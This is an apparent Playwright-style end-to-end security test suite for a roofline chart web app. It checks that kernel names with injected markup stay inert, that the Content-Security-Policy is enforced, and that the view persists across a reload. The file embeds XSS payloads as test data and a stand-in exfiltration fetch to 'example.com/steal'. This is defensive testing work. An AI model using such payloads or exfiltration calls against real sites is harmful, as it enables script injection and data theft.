// Issue 7, end to end: hostile kernel names in a file and in a link never execute, nothing
// leaves the page's origin, the Content-Security-Policy is enforced, and the view in the
// address survives a reload. docs/FUZZING.md lists the engine-side half (fuzzing, bad inputs).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { startSite, launch, openPage, waitForChart, settledAddress, tableText } from './helpers.mjs';

let site, browser;
before(async () => { site = await startSite(); browser = await launch(); });
after(async () => { await browser?.close(); site?.server.close(); });

const IMG = '<img src=x onerror=window.__pwned=1>';
const SCRIPT = '<script>window.__pwned=2</script>';

// A tidy CSV (docs/FORMATS.md) whose kernel names are markup.
const CRAFTED_CSV = Buffer.from(`kernel,time_s,flops_fp64,bytes_dram\n"${IMG}",0.001,2e9,1e8\n"${SCRIPT}",0.002,4e9,4e8\n`);

// The same two kernels as a link, made by the engine: `roofline link crafted.csv` on the CSV
// above (v1 links are frozen: this one opens in every later build).
const CRAFTED_FRAGMENT = 'v1.XZk7CoAwEEQ3KsTC1l7BwkIULTXJCfwcIoWkkMhGiVfxtiaQyvpV0wzDPEi8P6BBQACkUcXUsRcGJX_8-Y6okVtXlNq2btNZl5v3omRGojov8SMD6wIgJIYsp3Sc1m1e3rtuPoMD7m6-vhISa2u8vA';

/// Waits until the kernel table lists `name` (its full name is the name cell's `title`; the
/// cell shows the short display name, `<…>` for what looks like template arguments).
function waitForKernel(page, name) {
  return page.waitForFunction((n) => [...document.querySelectorAll('table.kernels td.name')].some((td) => td.title === n), name);
}

/// Asserts that the crafted names are on the page as text and nothing of them ran.
async function assertInert(page, problems) {
  await waitForKernel(page, IMG);
  const names = await page.evaluate(() => [...document.querySelectorAll('table.kernels td.name')].map((td) => ({ title: td.title, text: td.textContent, children: td.children.length })));
  assert.deepEqual(names.map((n) => n.title).sort(), [IMG, SCRIPT].sort(), JSON.stringify(names));
  assert.ok(names.every((n) => n.children === 0), `name cells hold text only: ${JSON.stringify(names)}`);
  assert.ok(names.some((n) => n.text.includes('window.__pwned=2')), 'the script text is visible as text');
  // Let any injected handler (an image error, a script) have its turn.
  await page.waitForTimeout(300);
  const found = await page.evaluate(() => ({
    pwned: window.__pwned,
    imgs: document.querySelectorAll('img').length,
    tableImgs: document.querySelectorAll('table.kernels img, table.kernels script').length,
    // The page's one inline script is first-paint.js (scripts/postbuild.mjs), allowed by its hash.
    scripts: [...document.querySelectorAll('script')].map((s) => s.src || (s.id === 'first-paint-script' && s.textContent.includes('rooflineFirstPaint') ? location.href : `inline: ${s.textContent.slice(0, 40)}`)),
  }));
  assert.equal(found.pwned, undefined, 'no injected code ran');
  assert.equal(found.tableImgs, 0, 'no element made from a kernel name');
  assert.equal(found.imgs, 0, 'no img anywhere');
  assert.ok(found.scripts.every((s) => s.startsWith(site.url)), `only the site's own scripts: ${found.scripts}`);
  assert.deepEqual(problems.foreignRequests, [], 'no request left the origin');
  assert.deepEqual(problems.pageErrors, []);
}

/// Records every request URL (foreign or not), to catch `<img src=x>` resolving to our origin.
function recordRequests(page) {
  const urls = [];
  page.on('request', (r) => urls.push(r.url()));
  return urls;
}

test('kernel names from a file are shown as text and never executed', async () => {
  const { context, page, problems } = await openPage(browser, site.url);
  const urls = recordRequests(page);
  await page.setInputFiles('#file-input', { name: 'crafted.csv', mimeType: 'text/csv', buffer: CRAFTED_CSV });
  await assertInert(page, problems);
  await waitForChart(page);
  assert.ok(!urls.some((u) => new URL(u).pathname.endsWith('/x')), `no image request: ${urls}`);
  // The names also reach the chart's accessible label and the address, still as text.
  assert.match(page.url(), /#v1\./);
  assert.deepEqual(problems.consoleErrors, []);
  await context.close();
});

test('kernel names from a crafted link are shown as text and never executed', async () => {
  const { context, page, problems } = await openPage(browser, `${site.url}#${CRAFTED_FRAGMENT}`);
  const urls = recordRequests(page);
  await assertInert(page, problems);
  assert.ok(!urls.some((u) => new URL(u).pathname.endsWith('/x')), `no image request: ${urls}`);
  assert.equal(await page.locator('[role=alert]').isVisible(), false, 'the link opens without an error');
  assert.deepEqual(problems.consoleErrors, []);
  await context.close();
});

test('the Content-Security-Policy forbids inline scripts and foreign connections, and is enforced', async () => {
  const { context, page, problems } = await openPage(browser, site.url);
  const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content ?? '');
  const directive = (name) => csp.split(';').map((d) => d.trim()).find((d) => d.startsWith(`${name} `)) ?? '';
  assert.match(directive('script-src'), /^script-src 'self'/, csp);
  // The one inline script is first-paint.js (scripts/postbuild.mjs puts it in the page), allowed
  // by its own hash: any other inline script, or this one altered, is refused.
  const inline = await page.evaluate(() => [...document.querySelectorAll('script:not([src])')].map((s) => s.textContent));
  assert.equal(inline.length, 1, 'one inline script');
  assert.match(inline[0], /rooflineFirstPaint/, 'the inline script is first-paint.js');
  const firstPaintHash = `'sha256-${createHash('sha256').update(inline[0]).digest('base64')}'`;
  const sources = directive('script-src').split(/\s+/).slice(1);
  assert.deepEqual(sources, ["'self'", "'wasm-unsafe-eval'", firstPaintHash], `script-src allows only the site's files, wasm and first-paint.js: ${csp}`);
  // `#url=` (docs/SHARING.md, "Open from a URL"): HTTPS anywhere, plain HTTP to this computer only.
  assert.equal(directive('connect-src'), "connect-src 'self' https: http://localhost:* http://127.0.0.1:*", csp);
  assert.match(directive('default-src'), /^default-src 'self'$/, csp);
  assert.equal(directive('object-src'), "object-src 'none'", csp);

  const result = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
    // An inline script inserted into the page.
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.appendChild(s);
    // An inline event handler.
    const div = document.createElement('div');
    div.setAttribute('onclick', 'window.__handler = 1');
    document.body.appendChild(div);
    div.click();
    // A connection to another origin over plain HTTP (HTTPS is allowed for `#url=`).
    let fetched = 'allowed';
    try {
      await fetch('http://example.com/steal', { method: 'POST', body: 'x' });
    } catch (e) {
      fetched = 'blocked';
    }
    await new Promise((r) => setTimeout(r, 100));
    return { inline: window.__inline, handler: window.__handler, fetched, violations };
  });
  assert.equal(result.inline, undefined, 'the inline script did not run');
  assert.equal(result.handler, undefined, 'the inline handler did not run');
  assert.equal(result.fetched, 'blocked');
  assert.ok(result.violations.some((v) => v.startsWith('script-src')), `violations: ${result.violations}`);
  assert.ok(result.violations.includes('connect-src'), `violations: ${result.violations}`);
  assert.deepEqual(problems.foreignRequests, [], 'the blocked fetch never left the page');
  await context.close();
});

test('the view in the address survives a reload', async () => {
  const { context, page, problems } = await openPage(browser, site.url);
  await page.setInputFiles('#file-input', { name: 'crafted.csv', mimeType: 'text/csv', buffer: CRAFTED_CSV });
  await waitForKernel(page, IMG);
  await waitForChart(page);
  // The app writes the view in the task after the one that drew it (app/src/address.rs).
  const url = await settledAddress(page);
  const table = await tableText(page);
  assert.match(url, /#v1\./, 'the fragment was rewritten with the new view');
  await page.reload();
  await waitForChart(page);
  await waitForKernel(page, IMG);
  assert.equal(page.url(), url, 'same address after the reload');
  assert.equal(await tableText(page), table, 'same kernels after the reload');
  assert.equal(await page.evaluate(() => window.__pwned), undefined);
  assert.deepEqual(problems.foreignRequests, []);
  await context.close();
});
